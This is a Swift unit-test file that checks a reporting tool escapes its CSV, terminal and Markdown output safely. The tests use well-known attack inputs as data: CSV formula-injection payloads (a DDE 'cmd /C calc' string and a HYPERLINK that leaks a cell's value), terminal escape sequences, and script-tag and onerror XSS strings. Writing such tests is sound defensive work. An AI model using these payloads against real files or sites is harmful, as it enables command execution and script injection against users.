import XCTest

@testable import FenjieReports

/// Issue 17: what fenjie writes is safe for the program that opens it.
final class OutputEscapingTests: XCTestCase {
  /// OWASP's advice for CSV: a text cell that a spreadsheet would evaluate gets a leading '.
  func testCSVFormulaInjectionIsNeutralised() {
    for payload in ["=HYPERLINK(\"http://x\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx", "-", "+", "=1+1"] {
      XCTAssertEqual(csvNeutralised(payload), "'" + payload, payload)
    }
    for number in ["-5", "+27.3%", "-1,200.5", "-3.5e-2", "0", "12.50", "-0.15", "+0.0%"] {
      XCTAssertEqual(csvNeutralised(number), number, "a number stays a number: \(number)")
    }
    for text in ["崇安寺街道", "a=b", "1+1", "/", ""] { XCTAssertEqual(csvNeutralised(text), text) }
    var table = TextTable(header: ["街道", "目标"], alignments: [.left, .right])
    table.add(["=HYPERLINK(\"http://x\",\"y\")", "-5"])
    XCTAssertEqual(table.csv(), "\u{FEFF}街道,目标\r\n\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",-5\r\n")
  }

  /// ESC, BEL and the other control characters are shown, not sent, on a terminal.
  func testTerminalControlCharactersAreEscaped() {
    XCTAssertEqual(escapingControlCharacters("a\u{1B}[2Jb\u{1B}]0;title\u{07}c\u{0}d\u{9B}e"), "a\\u{1B}[2Jb\\u{1B}]0;title\\u{7}c\\u{0}d\\u{9B}e")
    XCTAssertEqual(escapingControlCharacters("line\nnext\ttab\r\nend"), "line\nnext\ttab\r\nend", "line ends and tabs are kept")
    XCTAssertEqual(escapingControlCharacters("a\rb"), "a\\u{D}b", "a lone CR would overwrite the line")
  }

  /// Markdown: markup in a name is text; control characters are escaped.
  func testMarkdownEscapesHTML() {
    XCTAssertEqual(markdownSafe("| <script>alert(1)</script> & \u{1B}x |"), "| &lt;script&gt;alert(1)&lt;/script&gt; &amp; \\u{1B}x |")
    var table = TextTable(header: ["街道"], alignments: [.left])
    table.add(["<img src=x onerror=alert(1)>"])
    XCTAssertTrue(markdownSafe(table.markdown()).contains("&lt;img src=x onerror=alert(1)&gt;"))
  }
}
